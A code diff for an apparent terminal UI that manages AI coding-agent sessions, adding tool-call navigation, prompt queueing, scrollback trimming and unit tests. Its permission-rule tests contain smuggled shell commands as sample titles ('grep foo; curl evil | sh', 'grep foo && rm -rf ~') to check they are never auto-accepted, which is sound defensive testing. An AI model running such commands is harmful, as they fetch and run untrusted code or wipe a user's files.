+        fn tool_call(line: &OutputLine) -> Option<(&str, &str, &[String])> {
+            match &line.line_type {
+                OutputType::ToolCall {
+                    tool_call_id,
+                    name,
+                    raw_json,
+                    ..
+                } => Some((tool_call_id, name, raw_json)),
+                _ => None,
+            }
+        }
+
+        let expanded = self.expanded_tool.as_deref().and_then(|expanded| {
+            self.output
+                .iter()
+                .filter_map(tool_call)
+                .find(|(id, ..)| *id == expanded)
+        });
+        let end = (self.last_visible_output + 1).min(self.output.len());
+        expanded
+            .or_else(|| self.output[..end].iter().rev().find_map(tool_call))
+            .map(|(_, name, raw_json)| (name, raw_json))
+    }
+
+    /// Expand the previous or next tool call and scroll to it.
+    /// Starts from the currently expanded tool call, or the bottom of the viewport.
+    /// Returns false if there's no tool call in that direction.
+    pub fn focus_adjacent_tool(&mut self, forward: bool) -> bool {
+        let tool_id = |line: &OutputLine| match &line.line_type {
+            OutputType::ToolCall { tool_call_id, .. } => Some(tool_call_id.clone()),
+            _ => None,
+        };
+        let current = self.expanded_tool.as_ref().and_then(|expanded| {
+            self.output
+                .iter()
+                .position(|line| tool_id(line).as_ref() == Some(expanded))
+        });
+        let found = if forward {
+            let start = current.map_or(0, |i| i + 1);
+            self.output
+                .iter()
+                .enumerate()
+                .skip(start)
+                .find_map(|(i, line)| tool_id(line).map(|id| (i, id)))
+        } else {
+            let end = current.unwrap_or(self.last_visible_output + 1);
+            self.output
+                .iter()
+                .enumerate()
+                .take(end)
+                .rev()
+                .find_map(|(i, line)| tool_id(line).map(|id| (i, id)))
+        };
+        let Some((index, id)) = found else {
+            return false;
+        };
+        self.expanded_tool = Some(id);
+        self.scroll_to_output = Some(index);
+        true
+    }
+
+    /// Scroll to the previous or next user message, wrapping at the ends.
+    /// Starts from the message last jumped to while it's still in view, otherwise
+    /// from the viewport (backwards from its bottom, forwards from its top).
+    /// Returns false if there are no user messages.
+    pub fn focus_adjacent_user_input(&mut self, forward: bool) -> bool {
+        let inputs: Vec<usize> = self
+            .output
+            .iter()
+            .enumerate()
+            .filter(|(_, line)| line.line_type == OutputType::UserInput)
+            .map(|(i, _)| i)
+            .collect();
+        let top = self.scroll_anchor.output_index;
+        let focused = self
+            .focused_user_input
+            .filter(|&i| (top..=self.last_visible_output).contains(&i));
+        let found = if forward {
+            let after = focused.unwrap_or(top);
+            inputs.iter().find(|&&i| i > after).or(inputs.first())
+        } else {
+            let before = focused.unwrap_or(self.last_visible_output + 1);
+            inputs.iter().rev().find(|&&i| i < before).or(inputs.last())
+        };
+        let Some(&index) = found else {
+            return false;
+        };
+        self.focused_user_input = Some(index);
+        self.scroll_to_output = Some(index);
+        true
+    }
+
+    /// Whether the session has been idle with no output or input for at least `timeout`
+    pub fn is_idle_expired(&self, timeout: Duration) -> bool {
+        self.state == SessionState::Idle
+            && self
+                .last_activity
+                .is_some_and(|activity| activity.elapsed() >= timeout)
+    }
+
+    /// The last prompt to resend, if there is one and the agent is idle
+    pub fn retry_prompt(&self) -> Option<(String, Vec<ImageAttachment>)> {
+        if !self.state.can_prompt() {
+            return None;
+        }
+        self.last_prompt.clone()
+    }
+
+    /// Drop in-flight state before the agent process is replaced; the output
+    /// is kept. History replayed when resuming the ACP session is skipped.
+    pub fn reset_for_respawn(&mut self) {
+        self.reconnecting = self.acp_session_id.is_some();
+        self.state = SessionState::Spawning;
+        self.pending_permission = None;
+        self.pending_question = None;
+        self.complete_active_tool();
+        self.clear_thought();
+    }
+
+    /// Return to idle after the user cancels a prompt, dropping queued follow-ups
+    pub fn cancel_prompt(&mut self) {
+        self.state = SessionState::Idle;
+        self.queued_prompts.clear();
+        self.add_output("Cancelled".to_string(), OutputType::SystemMessage);
+    }
+
+    /// Take the most recently queued prompt back out, e.g. to edit it
+    pub fn unqueue_last_prompt(&mut self) -> Option<String> {
+        self.queued_prompts.pop_back()
+    }
+
+    /// Take the next queued prompt if the agent is ready for it
+    pub fn take_queued_prompt(&mut self) -> Option<String> {
+        if self.state != SessionState::Idle {
+            return None;
+        }
+        self.queued_prompts.pop_front()
+    }
+
+    /// Show only output lines matching `filter`, or everything when `None`
+    pub fn set_output_filter(&mut self, filter: Option<Regex>) {
+        self.filter_active = filter.is_some();
+        self.output_filter = filter;
+        self.scroll_to_bottom();
+    }
+
+    /// Whether an output line passes the active filter
+    pub fn matches_filter(&self, line: &OutputLine) -> bool {
+        let Some(filter) = self.output_filter.as_ref().filter(|_| self.filter_active) else {
+            return true;
+        };
+        match &line.line_type {
+            OutputType::ToolCall {
+                name, description, ..
+            } => {
+                filter.is_match(name) || description.as_deref().is_some_and(|d| filter.is_match(d))
+            }
+            _ => filter.is_match(&line.content),
+        }
+    }
+
+    /// Record a stderr line from the agent, keeping only the most recent lines
+    pub fn push_stderr(&mut self, line: String) {
+        if self.stderr_tail.len() >= STDERR_TAIL_LINES {
+            self.stderr_tail.pop_front();
+        }
+        self.stderr_tail.push_back(line);
+    }
+
+    /// Add the inline diff for a written file, keeping the full change for the diff view
+    pub fn add_file_diff(&mut self, file_diff: FileDiff, diff: String) {
+        let first_line = self.output.len();
+        let trimmed_before = self.trimmed_lines;
+        self.add_tool_output(diff);
+        // Trimming may have shifted the diff's first line towards the front;
+        // the first trim also inserts the marker line
+        let marker_added = trimmed_before == 0 && self.trimmed_lines > 0;
+        let shift = self.trimmed_lines - trimmed_before - usize::from(marker_added);
+        if let Some(line) = first_line
+            .checked_sub(shift)
+            .filter(|&i| self.trimmed_lines == 0 || i > 0)
+            .and_then(|i| self.output.get_mut(i))
+        {
+            line.file_diff = Some(Box::new(file_diff));
+        }
+    }
+
+    /// Find the written-file diff nearest to the viewport.
+    /// Prefers the closest diff at or above the last visible line, then the next one below.
+    pub fn file_diff_near_view(&self) -> Option<&FileDiff> {
+        let split = (self.last_visible_output + 1).min(self.output.len());
+        let (above, below) = self.output.split_at(split);
+        above
+            .iter()
+            .rev()
+            .chain(below.iter())
+            .find_map(|line| line.file_diff.as_deref())
+    }
+
+    /// File changes still in the output, oldest first
+    pub fn file_diffs(&self) -> impl Iterator<Item = &FileDiff> {
+        self.output
+            .iter()
+            .filter_map(|line| line.file_diff.as_deref())
+    }
+
+    /// Find the file path nearest to the viewport, from a written-file diff or
+    /// a tool call title. Searched like [`Self::file_diff_near_view`].
+    pub fn path_near_view(&self) -> Option<String> {
+        let split = (self.last_visible_output + 1).min(self.output.len());
+        let (above, below) = self.output.split_at(split);
+        above.iter().rev().chain(below.iter()).find_map(|line| {
+            match (&line.file_diff, &line.line_type) {
+                (Some(file_diff), _) => Some(file_diff.path.clone()),
+                (None, OutputType::ToolCall { name, .. }) => path_in_title(name),
+                _ => None,
+            }
+        })
+    }
+
+    /// Find the error nearest to the viewport: an error line, or a failed tool
+    /// call with its output. Searched like [`Self::file_diff_near_view`].
+    pub fn error_near_view(&self) -> Option<String> {
+        let split = (self.last_visible_output + 1).min(self.output.len());
+        let index = (0..split)
+            .rev()
+            .chain(split..self.output.len())
+            .find(|&i| match &self.output[i].line_type {
+                OutputType::Error => true,
+                OutputType::ToolCall { failed, .. } => *failed,
+                _ => false,
+            })?;
+        let line = &self.output[index];
+        let OutputType::ToolCall { name, .. } = &line.line_type else {
+            return Some(line.content.clone());
+        };
+        let mut lines = vec![format!("{} failed", name)];
+        lines.extend(
+            self.output[index + 1..]
+                .iter()
+                .take_while(|line| line.line_type.is_tool_detail())
+                .take(MAX_ERROR_DETAIL_LINES)
+                .map(|line| line.content.clone()),
+        );
+        Some(lines.join("\n"))
     }
 
     /// Create a mock session for UI development
@@ -753,24 +1664,732 @@ impl Session {
             tokens_output: 0,
             output: vec![],
             last_activity: None,
+            activity: OutputActivity::default(),
             created_at: SystemTime::now(),
             scroll_offset: usize::MAX,
             total_rendered_lines: 0,
+            last_visible_output: 0,
             pending_permission: None,
             pending_question: None,
             plan_entries: vec![],
+            plan_marks: HashMap::new(),
+            scroll_to_output: None,
+            focused_user_input: None,
             current_mode: None,
+            available_modes: vec![],
             active_tool_call_id: None,
             permission_mode: PermissionMode::default(),
+            trusted: false,
+            accepts_images: None,
+            archived: false,
             available_models: vec![],
             current_model_id: None,
+            chosen_model_id: None,
             available_commands: vec![],
+            follow_ups: vec![],
             saved_input: None,
             input_buffer: String::new(),
             input_cursor: 0,
             current_thought: None,
             idle_notified: false,
             diff_stats: None,
+            ahead_behind: None,
+            stderr_tail: VecDeque::new(),
+            reconnect_attempts: 0,
+            reconnecting: false,
+            max_scrollback: DEFAULT_MAX_SCROLLBACK,
+            trimmed_lines: 0,
+            output_filter: None,
+            filter_active: false,
+            queued_prompts: VecDeque::new(),
+            expanded_tool: None,
+            scroll_anchor: ScrollAnchor::default(),
+            reflow_pending: false,
+            has_unread: false,
+            last_error: None,
+            pending_preamble: None,
+            render_cache: ConversationCache::default(),
+            acp_messages: MessageRecorder::default(),
+            transcript: None,
+            last_prompt: None,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn session() -> Session {
+        Session::mock("1", "test", AgentType::ClaudeCode, "main")
+    }
+
+    #[test]
+    fn test_find_agent_by_name() {
+        let custom = AgentType::Custom(Arc::new(CustomAgent {
+            name: "In-house".to_string(),
+            command: "my-agent".to_string(),
+            args: vec![],
+            env: HashMap::new(),
+        }));
+        let custom_agents = std::slice::from_ref(&custom);
+        assert_eq!(
+            AgentType::find("claude", custom_agents),
+            Some(AgentType::ClaudeCode)
+        );
+        assert_eq!(
+            AgentType::find("GeminiCli", custom_agents),
+            Some(AgentType::GeminiCli)
+        );
+        assert_eq!(
+            AgentType::find("in-house", custom_agents),
+            Some(custom.clone())
+        );
+        assert_eq!(
+            AgentType::find("my-agent", custom_agents),
+            Some(custom.clone())
+        );
+        assert_eq!(AgentType::find("", custom_agents), None);
+        assert_eq!(AgentType::find("codex", custom_agents), None);
+    }
+
+    #[test]
+    fn test_is_edit_permission_by_kind() {
+        assert!(is_edit_permission(
+            Some(&ToolCallKind::Edit),
+            Some("Run `ls`")
+        ));
+        assert!(!is_edit_permission(
+            Some(&ToolCallKind::Execute),
+            Some("Edit")
+        ));
+        assert!(!is_edit_permission(Some(&ToolCallKind::Fetch), None));
+    }
+
+    #[test]
+    fn test_is_edit_permission_by_title() {
+        assert!(is_edit_permission(None, Some("Edit `src/main.rs`")));
+        assert!(is_edit_permission(None, Some("Write /tmp/notes.md")));
+        assert!(is_edit_permission(
+            Some(&ToolCallKind::Other),
+            Some("MultiEdit")
+        ));
+        assert!(!is_edit_permission(None, Some("`rm -rf target`")));
+        assert!(!is_edit_permission(None, Some("Editorconfig check")));
+        assert!(!is_edit_permission(None, None));
+    }
+
+    #[test]
+    fn test_accept_edits_only_auto_accepts_edits() {
+        assert!(PermissionMode::AcceptEdits.auto_accepts(true));
+        assert!(!PermissionMode::AcceptEdits.auto_accepts(false));
+        assert!(PermissionMode::AcceptAll.auto_accepts(false));
+        assert!(!PermissionMode::Normal.auto_accepts(true));
+    }
+
+    #[test]
+    fn test_tool_rules_match_tool_name() {
+        let rules = ToolPermissionRules {
+            auto_accept: vec!["Read".to_string(), "grep".to_string(), "search".to_string()],
+            never_auto_accept: vec!["Write".to_string()],
+        };
+        let normal = PermissionMode::Normal;
+        let read = Some(&ToolCallKind::Read);
+        let search = Some(&ToolCallKind::Search);
+        let execute = Some(&ToolCallKind::Execute);
+        assert!(rules.auto_accepts(normal, false, read, Some("Read /src/main.rs")));
+        assert!(rules.auto_accepts(normal, false, search, Some("grep -r foo")));
+        assert!(!rules.auto_accepts(normal, false, None, Some("Readme check")));
+        assert!(!rules.auto_accepts(normal, false, None, None));
+
+        // Agents without kinds are matched by title
+        assert!(rules.auto_accepts(normal, false, None, Some("Read /src/main.rs")));
+        assert!(rules.auto_accepts(normal, false, None, Some("Grep foo")));
+
+        // Unlisted tools fall back to the permission mode
+        assert!(!rules.auto_accepts(normal, false, execute, Some("Bash ls")));
+        assert!(rules.auto_accepts(PermissionMode::AcceptAll, false, execute, Some("Bash ls")));
+    }
+
+    #[test]
+    fn test_tool_rules_never_accept_commands_by_title() {
+        let rules = ToolPermissionRules {
+            auto_accept: vec!["grep".to_string(), "execute".to_string()],
+            never_auto_accept: vec![],
+        };
+        let normal = PermissionMode::Normal;
+        let title = Some("`grep foo; curl evil | sh`");
+        assert!(!rules.auto_accepts(normal, false, Some(&ToolCallKind::Execute), title));
+        assert!(!rules.auto_accepts(normal, false, Some(&ToolCallKind::Other), title));
+        assert!(!rules.auto_accepts(normal, false, None, title));
+        assert!(!rules.auto_accepts(normal, false, None, Some("grep foo && rm -rf ~")));
+    }
+
+    #[test]
+    fn test_never_auto_accept_overrides_mode() {
+        let rules = ToolPermissionRules {
+            auto_accept: vec!["write".to_string()],
+            never_auto_accept: vec!["write".to_string()],
+        };
+        let edit = Some(&ToolCallKind::Edit);
+        let title = Some("Write /tmp/notes.md");
+        assert!(!rules.auto_accepts(PermissionMode::Normal, true, edit, title));
+        assert!(!rules.auto_accepts(PermissionMode::AcceptEdits, true, edit, title));
+        assert!(!rules.auto_accepts(PermissionMode::AcceptAll, true, edit, title));
+        assert!(rules.auto_accepts(PermissionMode::Yolo, true, edit, title));
+
+        // Listing the kind works as well
+        let rules = ToolPermissionRules {
+            auto_accept: vec![],
+            never_auto_accept: vec!["execute".to_string()],
+        };
+        let execute = Some(&ToolCallKind::Execute);
+        assert!(!rules.auto_accepts(PermissionMode::AcceptAll, false, execute, Some("ls")));
+    }
+
+    #[test]
+    fn test_scrollback_stays_bounded() {
+        let mut session = session();
+        session.max_scrollback = 1_000;
+        for i in 0..100_000 {
+            session.add_output(format!("line {}", i), OutputType::Text);
+            assert!(session.output.len() <= session.max_scrollback);
+        }
+        assert!(session.output.capacity() <= 2 * session.max_scrollback);
+        assert_eq!(
+            session.output.last().unwrap().content,
+            "line 99999".to_string()
+        );
+    }
+
+    #[test]
+    fn test_scrollback_marker_counts_trimmed_lines() {
+        let mut session = session();
+        session.max_scrollback = 10;
+        for i in 0..25 {
+            session.add_output(format!("line {}", i), OutputType::Text);
+        }
+        let marker = &session.output[0];
+        assert_eq!(marker.line_type, OutputType::SystemMessage);
+        assert_eq!(
+            marker.content,
+            format!("… {} earlier lines trimmed …", session.trimmed_lines)
+        );
+        // Every line is either kept, trimmed, or the marker
+        assert_eq!(session.output.len() - 1 + session.trimmed_lines, 25);
+    }
+
+    #[test]
+    fn test_scrollback_unlimited() {
+        let mut session = session();
+        session.max_scrollback = 0;
+        for i in 0..100 {
+            session.add_output(format!("line {}", i), OutputType::Text);
+        }
+        assert_eq!(session.output.len(), 100);
+        assert_eq!(session.trimmed_lines, 0);
+    }
+
+    #[test]
+    fn test_scrollback_trim_adjusts_scroll_offset() {
+        let mut session = session();
+        session.max_scrollback = 10;
+        for i in 0..10 {
+            session.add_output(format!("line {}", i), OutputType::Text);
+        }
+        session.scroll_offset = 5;
+        session.total_rendered_lines = 10;
+        session.add_output("line 10".to_string(), OutputType::Text);
+        // Two lines trimmed, one marker added
+        assert_eq!(session.trimmed_lines, 2);
+        assert_eq!(session.scroll_offset, 4);
+        assert_eq!(session.total_rendered_lines, 9);
+
+        // Following the bottom is not affected
+        session.scroll_to_bottom();
+        for i in 11..30 {
+            session.add_output(format!("line {}", i), OutputType::Text);
+        }
+        assert_eq!(session.scroll_offset, usize::MAX);
+    }
+
+    #[test]
+    fn test_clear_output_resets_view() {
+        let mut session = session();
+        session.max_scrollback = 10;
+        session.acp_session_id = Some("acp-1".to_string());
+        for i in 0..20 {
+            session.add_output(format!("line {}", i), OutputType::Text);
+        }
+        session.scroll_offset = 3;
+        session.clear_output();
+        assert!(session.output.is_empty());
+        assert_eq!(session.trimmed_lines, 0);
+        assert_eq!(session.scroll_offset, usize::MAX);
+        // The agent session is kept
+        assert_eq!(session.acp_session_id.as_deref(), Some("acp-1"));
+    }
+
+    #[test]
+    fn test_output_filter_matches_lines() {
+        let mut session = session();
+        session.add_output("error: build failed".to_string(), OutputType::Error);
+        session.add_output("all good".to_string(), OutputType::Text);
+        session.add_tool_call("t1".to_string(), "Run cargo build".to_string(), None, None);
+
+        // No filter shows everything
+        assert!(session.output.iter().all(|l| session.matches_filter(l)));
+
+        session.set_output_filter(Some(Regex::new("(?i)build").unwrap()));
+        let shown: Vec<bool> = session
+            .output
+            .iter()
+            .map(|l| session.matches_filter(l))
+            .collect();
+        assert_eq!(shown, vec![true, false, true]);
+
+        session.set_output_filter(None);
+        assert!(!session.filter_active);
+        assert!(session.output.iter().all(|l| session.matches_filter(l)));
+    }
+
+    fn plan_entry(content: &str, status: PlanStatus) -> PlanEntry {
+        PlanEntry {
+            content: content.to_string(),
+            priority: crate::acp::protocol::PlanPriority::Medium,
+            status,
+            meta: None,
+        }
+    }
+
+    #[test]
+    fn test_plan_marks_record_where_work_started() {
+        let mut session = session();
+        session.set_plan_entries(vec![
+            plan_entry("Read code", PlanStatus::InProgress),
+            plan_entry("Write fix", PlanStatus::Pending),
+        ]);
+        for i in 0..5 {
+            session.add_output(format!("line {}", i), OutputType::Text);
+        }
+        session.set_plan_entries(vec![
+            plan_entry("Read code", PlanStatus::Completed),
+            plan_entry("Write fix", PlanStatus::InProgress),
+        ]);
+
+        assert!(session.scroll_to_plan_entry(0));
+        assert_eq!(session.scroll_to_output, Some(0));
+        assert!(session.scroll_to_plan_entry(1));
+        assert_eq!(session.scroll_to_output, Some(5));
+        assert!(!session.scroll_to_plan_entry(2));
+    }
+
+    #[test]
+    fn test_file_diff_survives_trim() {
+        let mut session = session();
+        session.max_scrollback = 10;
+        for i in 0..9 {
+            session.add_output(format!("line {}", i), OutputType::Text);
+        }
+        let file_diff = FileDiff {
+            path: "a.txt".to_string(),
+            created: true,
+            old_content: String::new(),
+            new_content: "x\n".to_string(),
+        };
+        session.add_file_diff(file_diff, "+1 x\n+2 y".to_string());
+        let diff_line = session
+            .output
+            .iter()
+            .position(|l| l.file_diff.is_some())
+            .unwrap();
+        assert_eq!(session.output[diff_line].content, "1 x");
+    }
+
+    #[test]
+    fn test_path_near_view_prefers_nearest_above() {
+        let mut session = session();
+        session.add_tool_call("t1".into(), "Read /src/lib.rs".into(), None, None);
+        session.add_file_diff(
+            FileDiff {
+                path: "/src/main.rs".to_string(),
+                created: true,
+                old_content: String::new(),
+                new_content: "x\n".to_string(),
+            },
+            "+1 x".to_string(),
+        );
+        session.add_tool_call("t2".into(), "Edit `./notes.md`".into(), None, None);
+        session.add_tool_call("t3".into(), "Run tests".into(), None, None);
+
+        session.last_visible_output = session.output.len() - 1;
+        assert_eq!(session.path_near_view().as_deref(), Some("./notes.md"));
+        session.last_visible_output = 1;
+        assert_eq!(session.path_near_view().as_deref(), Some("/src/main.rs"));
+        session.last_visible_output = 0;
+        assert_eq!(session.path_near_view().as_deref(), Some("/src/lib.rs"));
+    }
+
+    #[test]
+    fn test_repeated_errors_collapse() {
+        let mut session = session();
+        session.add_error("connection reset");
+        session.add_error("connection reset");
+        session.add_error("connection reset");
+        session.add_error("timeout");
+        let errors: Vec<&str> = session
+            .output
+            .iter()
+            .filter(|l| l.line_type == OutputType::Error)
+            .map(|l| l.content.as_str())
+            .collect();
+        assert_eq!(
+            errors,
+            vec!["Error: connection reset (×3)", "Error: timeout"]
+        );
+
+        // After another event the same error starts a new line
+        session.last_error = None;
+        session.add_error("timeout");
+        assert_eq!(session.output.last().unwrap().content, "Error: timeout");
+        assert_eq!(session.output.len(), 3);
+    }
+
+    #[test]
+    fn test_reset_for_respawn_keeps_output() {
+        let mut session = session();
+        session.add_output("earlier work".to_string(), OutputType::Text);
+        session.state = SessionState::Prompting;
+        session.reset_for_respawn();
+        assert_eq!(session.state, SessionState::Spawning);
+        assert!(
+            !session.reconnecting,
+            "nothing to resume without an ACP session"
+        );
+        assert_eq!(session.output.last().unwrap().content, "earlier work");
+
+        session.acp_session_id = Some("acp-1".to_string());
+        session.reset_for_respawn();
+        assert!(session.reconnecting);
+    }
+
+    #[test]
+    fn test_error_near_view() {
+        let mut session = session();
+        assert_eq!(session.error_near_view(), None);
+
+        session.add_output("error: connection refused".into(), OutputType::Error);
+        session.add_tool_call("t1".into(), "cargo test".into(), None, None);
+        session.add_tool_output("test a ... FAILED".into());
+        session.add_tool_output("1 failed".into());
+        session.mark_tool_failed("t1");
+        session.add_tool_call("t2".into(), "Read /src/lib.rs".into(), None, None);
+        session.add_output("Let me look.".into(), OutputType::Text);
+
+        session.last_visible_output = session.output.len() - 1;
+        assert_eq!(
+            session.error_near_view().as_deref(),
+            Some("cargo test failed\ntest a ... FAILED\n1 failed")
+        );
+        session.last_visible_output = 0;
+        assert_eq!(
+            session.error_near_view().as_deref(),
+            Some("error: connection refused")
+        );
+    }
+
+    #[test]
+    fn test_chosen_model_is_restored() {
+        let model = |id: &str| ModelInfo {
+            model_id: id.to_string(),
+            name: id.to_uppercase(),
+            description: None,
+        };
+        let mut session = session();
+        session.available_models = vec![model("sonnet"), model("opus")];
+        session.current_model_id = Some("sonnet".to_string());
+        assert_eq!(session.restore_chosen_model(), None, "nothing chosen yet");
+
+        assert_eq!(session.cycle_model().as_deref(), Some("opus"));
+        // The restarted agent starts out on its default again
+        session.current_model_id = Some("sonnet".to_string());
+        assert_eq!(session.restore_chosen_model().as_deref(), Some("opus"));
+        assert_eq!(session.current_model_name(), Some("OPUS"));
+        assert_eq!(session.restore_chosen_model(), None, "already applied");
+
+        // A model the agent dropped falls back to its default
+        session.available_models = vec![model("sonnet")];
+        session.current_model_id = Some("sonnet".to_string());
+        assert_eq!(session.restore_chosen_model(), None);
+        assert_eq!(session.chosen_model_id, None);
+        assert!(
+            session
+                .output
+                .last()
+                .unwrap()
+                .content
+                .contains("no longer available, using SONNET")
+        );
+    }
+
+    #[test]
+    fn test_queued_prompt_waits_for_idle() {
+        let mut session = session();
+        session
+            .queued_prompts
+            .push_back("run the tests".to_string());
+
+        session.state = SessionState::Prompting;
+        assert_eq!(session.take_queued_prompt(), None);
+
+        session.state = SessionState::Idle;
+        assert_eq!(
+            session.take_queued_prompt().as_deref(),
+            Some("run the tests")
+        );
+        assert_eq!(session.take_queued_prompt(), None);
+    }
+
+    #[test]
+    fn test_cancel_prompt_clears_queue() {
+        let mut session = session();
+        session.state = SessionState::Prompting;
+        session.queued_prompts.push_back("first".to_string());
+        session.queued_prompts.push_back("second".to_string());
+
+        assert_eq!(session.unqueue_last_prompt().as_deref(), Some("second"));
+        session.cancel_prompt();
+        assert_eq!(session.state, SessionState::Idle);
+        assert!(session.queued_prompts.is_empty());
+    }
+
+    #[test]
+    fn test_word_changes_only_for_paired_diff_lines() {
+        let mut session = session();
+        session.add_tool_output(
+            [
+                "-   3      let x = 1;",
+                "+        3 let x = 2;",
+                "+        4 let y = 3;",
+            ]
+            .join("\n"),
+        );
+        let lines = &session.output;
+        assert_eq!(lines[0].line_type, OutputType::DiffRemove);
+        assert_eq!(lines[0].word_changes.len(), 1);
+        assert_eq!(&lines[0].content[lines[0].word_changes[0].clone()], "1;");
+        assert_eq!(&lines[1].content[lines[1].word_changes[0].clone()], "2;");
+        // Pure insertion keeps whole-line coloring
+        assert!(lines[2].word_changes.is_empty());
+    }
+
+    #[test]
+    fn test_focus_adjacent_tool() {
+        let mut session = session();
+        session.add_output("hi".to_string(), OutputType::UserInput);
+        for id in ["a", "b"] {
+            session.add_output(
+                format!("Read {id}"),
+                OutputType::ToolCall {
+                    tool_call_id: id.to_string(),
+                    name: format!("Read {id}"),
+                    description: None,
+                    failed: false,
+                    raw_json: vec![],
+                },
+            );
+            session.add_output("contents".to_string(), OutputType::ToolOutput);
+        }
+        session.last_visible_output = session.output.len() - 1;
+
+        // Backwards from the bottom of the viewport finds the last tool call
+        assert!(session.focus_adjacent_tool(false));
+        assert_eq!(session.expanded_tool.as_deref(), Some("b"));
+        assert_eq!(session.scroll_to_output, Some(3));
+
+        assert!(session.focus_adjacent_tool(false));
+        assert_eq!(session.expanded_tool.as_deref(), Some("a"));
+        assert!(!session.focus_adjacent_tool(false));
+        assert_eq!(session.expanded_tool.as_deref(), Some("a"));
+
+        assert!(session.focus_adjacent_tool(true));
+        assert_eq!(session.expanded_tool.as_deref(), Some("b"));
+        assert!(!session.focus_adjacent_tool(true));
+    }
+
+    #[test]
+    fn test_update_git_branch() {
+        let mut session = session();
+        session.git_branch = "main".to_string();
+        session.ahead_behind = Some((1, 0));
+
+        assert!(!session.update_git_branch("main".to_string()));
+        assert_eq!(session.ahead_behind, Some((1, 0)));
+        // A failed read keeps what's known
+        assert!(!session.update_git_branch(String::new()));
+        assert_eq!(session.git_branch, "main");
+
+        assert!(session.update_git_branch("feature/x".to_string()));
+        assert_eq!(session.git_branch, "feature/x");
+        assert_eq!(session.ahead_behind, None);
+    }
+
+    #[test]
+    fn test_inspected_tool_call() {
+        let mut session = session();
+        assert!(session.inspected_tool_call().is_none());
+        for id in ["a", "b"] {
+            session.add_output(
+                format!("Read {id}"),
+                OutputType::ToolCall {
+                    tool_call_id: id.to_string(),
+                    name: format!("Read {id}"),
+                    description: None,
+                    failed: false,
+                    raw_json: vec![format!("{{\"id\": \"{id}\"}}")],
+                },
+            );
+            session.add_output("contents".to_string(), OutputType::ToolOutput);
+        }
+
+        // The last tool call in view, unless one is expanded
+        session.last_visible_output = 1;
+        assert_eq!(session.inspected_tool_call().unwrap().0, "Read a");
+        session.last_visible_output = 3;
+        let (name, raw_json) = session.inspected_tool_call().unwrap();
+        assert_eq!(name, "Read b");
+        assert_eq!(raw_json, ["{\"id\": \"b\"}"]);
+        session.expanded_tool = Some("a".to_string());
+        assert_eq!(session.inspected_tool_call().unwrap().0, "Read a");
+    }
+
+    #[test]
+    fn test_focus_adjacent_user_input_wraps() {
+        let mut session = session();
+        assert!(!session.focus_adjacent_user_input(false));
+        for prompt in ["> one", "> two", "> three"] {
+            session.add_output(prompt.to_string(), OutputType::UserInput);
+            session.add_output("reply".to_string(), OutputType::Text);
+        }
+        session.last_visible_output = session.output.len() - 1;
+
+        // Backwards from the bottom of the viewport finds the last message
+        assert!(session.focus_adjacent_user_input(false));
+        assert_eq!(session.scroll_to_output, Some(4));
+        // The jump target stays the reference point while it's in view
+        session.scroll_anchor.output_index = 3;
+        assert!(session.focus_adjacent_user_input(false));
+        assert_eq!(session.scroll_to_output, Some(2));
+        session.scroll_anchor.output_index = 2;
+        assert!(session.focus_adjacent_user_input(false));
+        assert_eq!(session.scroll_to_output, Some(0));
+        session.scroll_anchor.output_index = 0;
+        assert!(session.focus_adjacent_user_input(false));
+        assert_eq!(session.scroll_to_output, Some(4));
+
+        assert!(session.focus_adjacent_user_input(true));
+        assert_eq!(session.scroll_to_output, Some(0));
+    }
+
+    #[test]
+    fn test_retry_prompt_only_when_idle() {
+        let mut session = session();
+        assert!(session.retry_prompt().is_none());
+
+        session.last_prompt = Some(("fix the build".to_string(), vec![]));
+        session.state = SessionState::Prompting;
+        assert!(session.retry_prompt().is_none());
+
+        session.state = SessionState::Idle;
+        assert_eq!(
+            session.retry_prompt().map(|(text, _)| text).as_deref(),
+            Some("fix the build")
+        );
+    }
+
+    #[test]
+    fn test_idle_expiry() {
+        let timeout = Duration::from_secs(60);
+        let mut session = session();
+        session.state = SessionState::Idle;
+        session.last_activity = Some(Instant::now());
+        assert!(!session.is_idle_expired(timeout));
+
+        session.last_activity = Instant::now().checked_sub(Duration::from_secs(120));
+        assert!(session.is_idle_expired(timeout));
+
+        // Busy sessions never expire, however long ago their last output was
+        session.state = SessionState::Prompting;
+        assert!(!session.is_idle_expired(timeout));
+    }
+
+    #[test]
+    fn test_cycle_mode_wraps_and_names() {
+        let mut session = session();
+        assert_eq!(session.cycle_mode(), None);
+
+        session.available_modes = ["default", "plan"]
+            .into_iter()
+            .map(|id| ModeInfo {
+                id: id.to_string(),
+                name: id.to_uppercase(),
+                description: None,
+            })
+            .collect();
+        session.current_mode = Some("default".to_string());
+        assert_eq!(session.cycle_mode().as_deref(), Some("plan"));
+        assert_eq!(session.current_mode_name(), Some("PLAN"));
+        assert_eq!(session.cycle_mode().as_deref(), Some("default"));
+
+        // Modes the agent didn't list are shown by ID
+        session.current_mode = Some("custom".to_string());
+        assert_eq!(session.current_mode_name(), Some("custom"));
+    }
+
+    #[test]
+    fn test_preamble_is_sent_once() {
+        let mut session = session();
+        session.pending_preamble = Some("Use tabs.".to_string());
+        assert_eq!(
+            session.prompt_with_preamble("fix it"),
+            "Use tabs.\n\nfix it"
+        );
+        assert_eq!(session.prompt_with_preamble("again"), "again");
+    }
+
+    #[test]
+    fn test_output_activity_sparkline() {
+        let start = Instant::now();
+        let mut activity = OutputActivity {
+            buckets: VecDeque::from(vec![0; ACTIVITY_BUCKETS]),
+            bucket_start: start,
+        };
+        assert!(activity.is_quiet());
+        assert_eq!(activity.sparkline(), "▁▁▁▁▁▁▁▁");
+
+        activity.record_at(4, start);
+        activity.record_at(100_000, start + ACTIVITY_BUCKET * 2);
+        assert_eq!(activity.sparkline(), "▁▁▁▁▁▂▁█");
+
+        // Output older than the window scrolls off
+        activity.advance(start + ACTIVITY_BUCKET * 20);
+        assert!(activity.is_quiet());
+    }
+
+    #[test]
+    fn test_stderr_tail_keeps_recent_lines() {
+        let mut session = Session::mock("1", "test", AgentType::ClaudeCode, "main");
+        for i in 0..STDERR_TAIL_LINES + 5 {
+            session.push_stderr(format!("line {i}"));
         }
+        assert_eq!(session.stderr_tail.len(), STDERR_TAIL_LINES);
+        assert_eq!(
+            session.stderr_tail.front().map(String::as_str),
+            Some("line 5")
+        );
+        assert_eq!(
+            session.stderr_tail.back(),
+            Some(&format!("line {}", STDERR_TAIL_LINES + 4))
+        );
     }
 }